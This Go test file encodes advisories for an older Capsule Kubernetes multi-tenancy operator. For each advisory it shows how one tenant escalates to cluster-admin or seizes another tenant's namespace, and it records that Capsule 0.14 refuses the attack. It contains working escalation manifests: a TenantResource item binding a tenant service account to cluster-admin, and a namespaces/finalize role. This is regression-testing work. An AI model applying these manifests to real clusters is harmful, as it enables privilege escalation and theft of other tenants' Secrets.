package advisories_test

import (
	"context"

	"sigs.k8s.io/controller-runtime/pkg/client"
)

// An advisory is a hole of the old Capsule that a rule of severity error stands
// for. The tenant red attacks, and blue is attacked; each has a reconciler in a
// home of its own, and a namespace.
type advisory struct {
	rule   string
	effect string // what the tenant does, for the documentation

	platform string // what the platform has that it should not, beside the old Capsule
	writes   string // what the tenant writes

	// attack makes requests with the tenant's token; effective is nil as soon as the
	// attack has had its effect.
	attack    func(ctx context.Context, red client.Client) error
	effective func(ctx context.Context, red client.Client) error

	refused string // where Capsule 0.14 is shown to refuse it, a row of the attacks
}

func advisories() []advisory {
	return []advisory{
		{
			rule:      "component-version",
			effect:    "has Capsule bind it to cluster-admin (CVE-2026-22872), and reads another tenant's Secrets",
			platform:  tenantResourceWriter,
			writes:    bindingItem("component-version"),
			effective: readsBlue,
			refused:   "TenantResource: cluster-scoped item",
		},
		{
			rule:      "capsule-replication-account",
			effect:    "has Capsule bind it to cluster-admin by a TenantResource without an account",
			platform:  tenantResourceWriter,
			writes:    bindingItem("capsule-replication-account"),
			effective: readsBlue,
			refused:   "TenantResource: cluster-scoped item",
		},
		{
			rule:   "rbac-namespace-subresource",
			effect: "makes another tenant's Namespace its own, by way of namespaces/finalize, and reads the Secrets in it",
			platform: `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: {name: finalize}
rules: [{apiGroups: [""], resources: [namespaces/finalize], verbs: [update]}, {apiGroups: [""], resources: [namespaces], verbs: [get]}]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: finalize}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: finalize}
subjects: [{kind: ServiceAccount, namespace: red, name: reconciler}]
`,
			attack:    takeNamespace,
			effective: readsBlue,
			refused:   "its own namespace: owned by another tenant, by way of finalize",
		},
	}
}

// tenantResourceWriter lets tenants write TenantResources, as Capsule's
// documentation has it.
const tenantResourceWriter = `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: {name: replications, labels: {rbac.authorization.k8s.io/aggregate-to-admin: "true"}}
rules: [{apiGroups: [capsule.clastix.io], resources: [tenantresources], verbs: ["*"]}]
`

// bindingItem is a TenantResource whose item is not of the tenant's namespace, nor
// of any.
func bindingItem(name string) string {
	return `
apiVersion: capsule.clastix.io/v1beta2
kind: TenantResource
metadata: {name: "` + name + `", namespace: red-app}
spec:
  resyncPeriod: 5s
  pruningOnDelete: true
  resources:
  - rawItems:
    - apiVersion: rbac.authorization.k8s.io/v1
      kind: ClusterRoleBinding
      metadata: {name: "` + name + `"}
      roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}
      subjects: [{kind: ServiceAccount, namespace: red, name: reconciler}]
`
}

// tenantText is a tenant of the platform's, as one was set up for that Capsule.
const tenantText = `
apiVersion: v1
kind: Namespace
metadata: {name: ${name}, labels: {toolkit.fluxcd.io/tenant: ${name}, pod-security.kubernetes.io/enforce: restricted}}
---
apiVersion: v1
kind: ServiceAccount
metadata: {name: reconciler, namespace: ${name}}
---
apiVersion: capsule.clastix.io/v1beta2
kind: Tenant
metadata: {name: ${name}}
spec: {owners: [{kind: ServiceAccount, name: "system:serviceaccount:${name}:reconciler"}]}
`
